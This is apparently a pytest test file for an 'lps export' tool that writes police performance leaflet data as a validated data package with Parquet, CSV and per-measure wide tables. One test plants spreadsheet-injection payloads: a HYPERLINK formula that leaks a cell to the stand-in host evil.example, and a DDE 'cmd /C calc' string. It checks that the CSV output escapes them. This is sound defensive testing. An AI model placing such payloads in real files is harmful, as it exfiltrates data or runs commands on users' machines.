"""`lps export`: a Frictionless Data Package that validates, Parquet and CSV that load in pandas
with the right types, wide tables per measure, and a release recorded once per version."""

from __future__ import annotations

import json
import shutil
import sqlite3
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from click.testing import CliRunner
from frictionless import Package
from sample_warehouse import FIXTURES, build_fixture_warehouse, golden

from lps.cli import main
from release import ReleaseError, export_release, warehouse_checksum
from schemas import Measure
from warehouse import open_warehouse

LEAFLETS = [("2008-09", "barnet"), ("2009-10", "barnet"), ("2009-10", "lambeth"),
            ("2010-11", "lambeth")]
PANDAS_TYPES = {"integer": "Int64", "number": "float64", "string": "string"}


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    pdfs = [FIXTURES / "pdfs" / year / f"{slug}.pdf" for year, slug in LEAFLETS]
    pdfs.append(FIXTURES / "pdfs" / "bad" / "empty.pdf")
    return build_fixture_warehouse(tmp_path_factory.mktemp("release") / "lps.db", pdfs)


@pytest.fixture(scope="module")
def released(warehouse: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    copy = tmp_path_factory.mktemp("copy") / "lps.db"
    shutil.copyfile(warehouse, copy)
    out = tmp_path_factory.mktemp("out") / "release-1"
    result = CliRunner().invoke(main, ["export", str(out), "--db", str(copy),
                                       "--release-version", "1.0"])
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0].startswith("Release 1.0 (")
    assert "  validated with frictionless: valid" in result.output
    return out


def package(folder: Path) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads((folder / "datapackage.json").read_text("utf-8"))
    return loaded


def test_the_package_validates_with_frictionless(released: Path) -> None:
    report = Package(str(released / "datapackage.json")).validate()
    assert report.valid, report.flatten(["title", "message"])[:5]
    names = [resource["name"] for resource in package(released)["resources"]]
    assert names[:5] == ["measures", "areas", "documents", "document_sources",
                         "performance_detail"]
    assert "wide_residential_burglary" in names and "wide_public_confidence" in names


def test_a_broken_file_fails_validation(released: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(released, copy)
    csv = copy / "data" / "performance.csv"
    csv.write_text(csv.read_text("utf-8").replace("residential_burglary", "burglary", 1),
                   "utf-8")
    report = Package(str(copy / "datapackage.json")).validate()
    assert not report.valid
    messages = " ".join(report.flatten(["message"])[i][0] for i in range(3))
    assert 'constraint "enum"' in messages


def test_the_package_names_the_release(released: Path, warehouse: Path) -> None:
    meta = package(released)
    assert meta["version"] == "1.0"
    with sqlite3.connect(warehouse) as conn:
        assert meta["warehouse_sha256"] == warehouse_checksum(conn)
    # A synthetic sample: MIT for what the project made, OGL for Barnet 2009/10's real text.
    assert [licence["name"] for licence in meta["licenses"]] == ["MIT", "OGL-UK-3.0"]
    assert meta["sources"][0]["title"] == "London Datastore: borough names and ONS codes"
    fields = {f["name"]: f for r in meta["resources"] if r["name"] == "performance_detail"
              for f in r["schema"]["fields"]}
    assert fields["measure"]["constraints"]["enum"][:2] == ["residential_burglary", "robbery"]
    assert fields["printed_target_change_pct"]["type"] == "number"
    assert fields["target_missed"]["constraints"]["enum"] == [0, 1]
    assert "previous year's leaflet's priorities" in (
        fields["priority_target_change_pct"]["description"])


def test_parquet_loads_in_pandas_with_the_right_types(released: Path) -> None:
    meta = package(released)
    for resource in meta["resources"]:
        if resource["name"].startswith("wide_"):
            continue
        frame = pd.read_parquet(released / "parquet" / f"{resource['name']}.parquet")
        for field in resource["schema"]["fields"]:
            dtype = str(frame[field["name"]].dtype)
            if field["type"] == "datetime":
                assert dtype.startswith("datetime64") and dtype.endswith(", UTC]"), field
            else:
                assert dtype == PANDAS_TYPES[field["type"]], (resource["name"], field, dtype)


def test_csv_loads_in_pandas_with_the_schema_types_and_matches_the_parquet(released: Path
                                                                           ) -> None:
    resource = next(r for r in package(released)["resources"] if r["name"] == "performance")
    types = {f["name"]: PANDAS_TYPES[f["type"]] for f in resource["schema"]["fields"]}
    csv = pd.read_csv(released / resource["path"], dtype=types, keep_default_na=False,
                      na_values=[""])
    parquet = pd.read_parquet(released / "parquet" / "performance.parquet")
    pd.testing.assert_frame_equal(csv, parquet)
    confidence = csv[(csv["measure"] == "public_confidence") & (csv["area"] == "Barnet")]
    expected = next(r for r in golden("barnet", "2008-09").performance
                    if r.measure == Measure.public_confidence)
    assert confidence["value_pct"].tolist() == [expected.value_pct]
    assert confidence["target_value_pct"].tolist() == [expected.target_value_pct]
    assert set(csv["area_code"]) == {"E09000003", "E09000022"}  # ONS codes on borough rows


def test_wide_tables_are_borough_by_year(released: Path) -> None:
    wide = pd.read_csv(released / "wide" / "residential_burglary.csv")
    assert list(wide.columns) == ["area_code", "area", "2008/09", "2009/10"]
    assert len(wide) == 32
    barnet = wide[wide["area"] == "Barnet"].iloc[0]
    for year in ("2008-09", "2009-10"):
        result = next(r for r in golden("barnet", year).performance
                      if r.measure == Measure.residential_burglary)
        assert barnet[year.replace("-", "/")] == result.change_pct
    confidence = pd.read_csv(released / "wide" / "public_confidence.csv")
    assert list(confidence.columns) == ["area_code", "area", "2008/09", "2010/11"]
    assert pd.isna(confidence[confidence["area"] == "Camden"]["2008/09"]).all()


def test_the_same_release_again_gives_the_same_files(warehouse: Path, tmp_path: Path) -> None:
    copy = tmp_path / "lps.db"
    shutil.copyfile(warehouse, copy)
    db = open_warehouse(copy)
    first = export_release(db, tmp_path / "a", "2.0")
    again = export_release(db, tmp_path / "b", "2.0")
    assert first.release == again.release
    for path in (tmp_path / "a").rglob("*.csv"):
        assert path.read_bytes() == (tmp_path / "b" / path.relative_to(tmp_path / "a")
                                     ).read_bytes()
    assert (tmp_path / "a" / "datapackage.json").read_bytes() == (
        tmp_path / "b" / "datapackage.json").read_bytes()
    db.execute("UPDATE performance SET change_pct = 1.0 WHERE rowid = 1")
    db.conn.commit()
    with pytest.raises(ReleaseError) as error:
        export_release(db, tmp_path / "c", "2.0")
    assert str(error.value).startswith(
        f"release 2.0 was made on {first.release.released_at} from other data "
        f"({first.release.warehouse_sha256}; the warehouse is now sha256:")
    assert not (tmp_path / "c").exists()
    assert [row["version"] for row in db.table("releases").rows] == ["2.0"]
    db.close()


def test_export_refuses_a_folder_that_is_not_empty(warehouse: Path, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "notes.txt").write_text("mine")
    result = CliRunner().invoke(main, ["export", str(tmp_path / "out"), "--db",
                                       str(warehouse), "--no-record"])
    assert result.exit_code == 1
    assert result.output == (f"Error: {tmp_path / 'out'} already exists and is not an empty "
                             "folder: a release is written into a new folder\n")


def test_export_of_a_missing_warehouse(tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["export", str(tmp_path / "out"), "--db",
                                       str(tmp_path / "none.db")])
    assert result.exit_code == 1
    assert result.output == (f"Error: no warehouse at {tmp_path / 'none.db'}: run `lps ingest` "
                             "first, or pass --db\n")


def test_bad_version(warehouse: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["export", str(tmp_path / "out"), "--db",
                                       str(warehouse), "--release-version", "../x"])
    assert result.exit_code == 1
    assert "release version '../x' is not usable" in result.output


def test_no_record_leaves_the_warehouse_alone(warehouse: Path, tmp_path: Path) -> None:
    copy = tmp_path / "lps.db"
    shutil.copyfile(warehouse, copy)
    result = CliRunner().invoke(main, ["export", str(tmp_path / "out"), "--db", str(copy),
                                       "--no-record"])
    assert result.exit_code == 0, result.output
    assert "  not recorded (--no-record)" in result.output
    with sqlite3.connect(copy) as conn:
        assert conn.execute("SELECT count(*) FROM releases").fetchone() == (0,)


def test_the_checksum_ignores_when_but_not_what(warehouse: Path, tmp_path: Path) -> None:
    copy = tmp_path / "lps.db"
    shutil.copyfile(warehouse, copy)
    with sqlite3.connect(copy) as conn:
        before = warehouse_checksum(conn)
        conn.execute("UPDATE documents SET ingested_at = '2030-01-01T00:00:00+00:00'")
        conn.commit()
        conn.execute("VACUUM")
        assert warehouse_checksum(conn) == before
        conn.execute("UPDATE performance SET label = label || ' ' WHERE rowid = 1")
        assert warehouse_checksum(conn) != before


def test_text_a_spreadsheet_would_run_is_written_inert(warehouse: Path, tmp_path: Path) -> None:
    """A leaflet ingested from a file named like a formula: its CSV cell starts with `'`, its
    Parquet value is untouched, and negative figures stay plain numbers in the CSV."""
    copy = tmp_path / "lps.db"
    shutil.copyfile(warehouse, copy)
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    with sqlite3.connect(copy) as conn:
        [(document_id,)] = conn.execute(
            "SELECT document_id FROM documents WHERE status = 'loaded' ORDER BY document_id "
            "LIMIT 1").fetchall()
        conn.execute("UPDATE documents SET source = ? WHERE document_id = ?",
                     [hostile, document_id])
        conn.execute("UPDATE document_sources SET source = ? WHERE document_id = ?",
                     ["@SUM(1+1)*cmd|' /C calc'!A0", document_id])
    result = CliRunner().invoke(main, ["export", str(tmp_path / "out"), "--db", str(copy),
                                       "--no-record"])
    assert result.exit_code == 0, result.output
    documents = (tmp_path / "out" / "data" / "documents.csv").read_text("utf-8")
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""open"")"' in documents
    assert hostile not in documents.replace("'" + hostile, "")  # never bare
    sources = (tmp_path / "out" / "data" / "document_sources.csv").read_text("utf-8")
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in sources
    parquet = pd.read_parquet(tmp_path / "out" / "parquet" / "documents.parquet")
    assert parquet[parquet["document_id"] == document_id]["source"].tolist() == [hostile]
    performance = (tmp_path / "out" / "data" / "performance.csv").read_text("utf-8")
    negatives = [cell for line in performance.splitlines() for cell in line.split(",")
                 if cell.startswith("-")]
    assert negatives and all(float(cell) < 0 for cell in negatives)  # numbers, no apostrophe
    assert "'-" not in performance
